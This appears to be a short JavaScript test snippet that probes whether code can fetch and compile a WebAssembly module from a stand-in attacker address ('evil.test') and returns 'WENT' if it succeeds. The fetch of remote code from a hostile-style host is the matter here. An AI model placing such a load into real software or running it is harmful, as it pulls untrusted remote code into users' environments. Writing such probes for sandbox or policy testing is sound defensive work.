// WebAssembly from an address.

await WebAssembly.compileStreaming(fetch('http://evil.test/x.wasm'));
return 'WENT';
